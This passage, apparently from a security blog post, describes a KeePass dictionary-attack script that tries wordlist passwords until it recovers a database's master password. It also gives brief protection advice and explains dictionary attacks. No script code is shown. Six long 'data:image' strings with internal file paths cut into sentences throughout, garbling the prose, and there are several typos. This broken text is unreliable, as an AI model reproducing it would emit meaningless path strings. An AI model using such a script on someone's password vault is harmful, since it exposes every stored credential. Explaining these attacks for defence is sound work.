The KeePass Dictionary Attack script will cycle though the lines of the passwordlist and then display the password if it finds a match. This password will then let you open an view passwords stored in the database. Currently, there is no message displayed if the password isn’t found.

Protecting yourself

A KeePass dictionary using the default values can be attacked a fairly reasonable pace – depending on the speed ofthe attacking PC of course.

To help protect against a KeePass Dictionary Attack youcan try some of the options found here – this doesn’t prevent an attacker running this script but does dramatically slow the attacker down.

Dictionary Attack

A dictionary attack is when an attacker uses a wordlist of common passwords to attemptentry into your account/devices/files/etc. This is often successful due to people using simple dictionary words for passwords – to avoidthis kind of attack ensure you use long, unique passwords.